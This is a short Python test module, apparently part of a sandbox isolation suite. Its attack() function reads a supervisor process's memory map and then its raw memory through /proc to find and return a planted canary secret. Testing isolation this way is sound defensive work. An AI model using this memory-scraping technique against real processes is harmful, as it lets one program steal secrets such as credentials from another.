"""No app reads raw memory, its own or another"s, as a file."""

CLASS = "environment"
BOUNDARY = "both"
NEEDS = ("os",)


import os

import target


def attack():
    with open(f"/proc/{target.SUPERVISOR_PID}/maps") as file:
        heap = next(line for line in file if "[stack]" in line)
    start, end = (int(it, 16) for it in heap.split()[0].split("-"))
    memory = os.open(f"/proc/{target.SUPERVISOR_PID}/mem", os.O_RDONLY)
    text = os.pread(memory, end - start, start)
    at = text.find(b"VAAS_CANARY=")
    return "ESCAPED: " + text[at : at + 30].decode() if at >= 0 else ""
